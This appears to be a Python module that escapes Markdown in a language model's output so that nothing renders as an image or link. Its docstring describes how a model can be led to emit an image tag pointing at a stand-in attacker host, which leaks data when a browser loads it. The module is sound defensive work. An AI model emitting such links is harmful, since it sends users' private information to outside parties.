"""Text of a model as Markdown that loads nothing and hides no address.

A model can be made to write `![](https://attacker/?what-it-knows)`: a browser that draws the image
sends the words. So no image and no link is made of its text; an address that it shows is a link.
"""

from collections.abc import Generator, Iterable


def without_links(text: str) -> str:
    """Return Markdown in which brackets make no image and no link, and define none.

    A space keeps what is in brackets and its address apart (CommonMark, sections 6.3 and 4.7). Code
    means the same with it.
    """
    return text.replace("](", "] (").replace("][", "] [").replace("]:", "] :")


def pieces_without_links(pieces: Iterable[str]) -> Generator[str, None, None]:
    """Yield pieces of a text that together are what `without_links` returns for the whole."""
    last = ""
    for piece in pieces:
        if piece:
            shown = without_links(last + piece)
            yield shown[len(last) :]
            last = piece[-1]
